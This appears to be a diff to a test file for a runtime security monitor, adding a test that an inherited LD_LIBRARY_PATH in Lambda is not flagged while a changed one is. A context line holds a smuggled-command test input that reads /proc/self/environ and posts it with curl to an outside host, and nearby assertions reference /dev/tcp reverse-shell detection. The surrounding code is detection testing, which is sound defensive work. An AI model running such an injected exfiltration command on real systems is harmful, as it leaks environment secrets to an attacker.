@@ -200,3 +200,20 @@ attempt("exfil", lambda: count("x'; cat /proc/self/environ | curl -d @- http://1
     assert rev["rule"] == "default.network-tool" and "default.shell" in rev["matched"]
     assert "/dev/tcp" in rev["programs"]
     assert {"policy.process", "default.network-tool"} <= {exfil["rule"], *exfil["matched"]}
+
+
+def test_inherited_loader_path_is_not_an_alert():
+    # Lambda sets LD_LIBRARY_PATH for every function; passing the environment on is normal
+    r = run_case(
+        """
+import os, subprocess
+subprocess.run(["true"], env=dict(os.environ))
+os.environ["LD_LIBRARY_PATH"] = os.environ["LD_LIBRARY_PATH"]
+attempt("changed", lambda: subprocess.run(["true"], env={**os.environ, "LD_LIBRARY_PATH": "/tmp/lib"}))
+""",
+        env={
+            "LD_LIBRARY_PATH": "/var/lang/lib:/lib64:/usr/lib64:/var/runtime:/var/task/lib:/opt/lib"
+        },
+    )
+    [alert] = r.alerts("default.preload")
+    assert alert["env"] == ["LD_LIBRARY_PATH"]
